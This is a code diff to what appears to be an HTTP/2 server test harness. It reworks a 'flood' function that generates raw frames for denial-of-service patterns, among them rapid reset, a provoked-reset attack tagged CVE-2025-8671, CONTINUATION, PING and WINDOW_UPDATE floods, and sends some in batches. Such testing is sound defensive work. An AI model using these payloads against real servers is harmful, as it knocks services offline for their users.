@@ -88,18 +88,29 @@ class Client:
                          for k, fl, s, p in self.seen[-20:])
 
 
-def flood(kind, n, authority):
-    """Bytes of an attack."""
+def flood(client, kind, n, authority):
+    """An attack. Where streams end by the other side's word, some at a time, as more of them than may be
+    open would be another fault."""
+    if kind in ("malformed", "made-reset"):
+        for i in range(0, n, 50):
+            client.send(bytes_of(kind, range(i, i + 50), authority))
+            time.sleep(0.01)
+    else:
+        client.send(bytes_of(kind, range(n), authority))
+
+
+def bytes_of(kind, numbers, authority):
+    n = len(numbers)
     head = request(authority, "/")
     if kind == "rapid-reset":
         return b"".join(frame(1, 5, 2 * i + 1, head) + frame(3, 0, 2 * i + 1, b"\0\0\0\x08")
-                        for i in range(n))
+                        for i in numbers)
     if kind == "made-reset":  # each provokes a reset from the other side (CVE-2025-8671)
         short = request(authority, "/", "POST", [("content-length", "1")])
-        return b"".join(frame(1, 4, 2 * i + 1, short) + frame(0, 0, 2 * i + 1, b"xx") for i in range(n))
+        return b"".join(frame(1, 4, 2 * i + 1, short) + frame(0, 0, 2 * i + 1, b"xx") for i in numbers)
     if kind == "malformed":
         bad = request(authority, "/", more=[("Upper", "x")])
-        return b"".join(frame(1, 5, 2 * i + 1, bad) for i in range(n))
+        return b"".join(frame(1, 5, 2 * i + 1, bad) for i in numbers)
     if kind == "continuation":
         return frame(1, 1, 1, head) + frame(9, 0, 1, fields([("x", "y")])) * n
     if kind == "ping":
@@ -109,7 +120,7 @@ def flood(kind, n, authority):
     if kind == "empty-data":
         return frame(1, 4, 1, request(authority, "/", "POST")) + frame(0, 0, 1) * n
     if kind == "priority":
-        return b"".join(frame(2, 0, 2 * i + 1, b"\0\0\0\0\x10") for i in range(n))
+        return b"".join(frame(2, 0, 2 * i + 1, b"\0\0\0\0\x10") for i in numbers)
     if kind == "window":
         return frame(8, 0, 0, b"\0\0\0\1") * n
     if kind == "unknown":
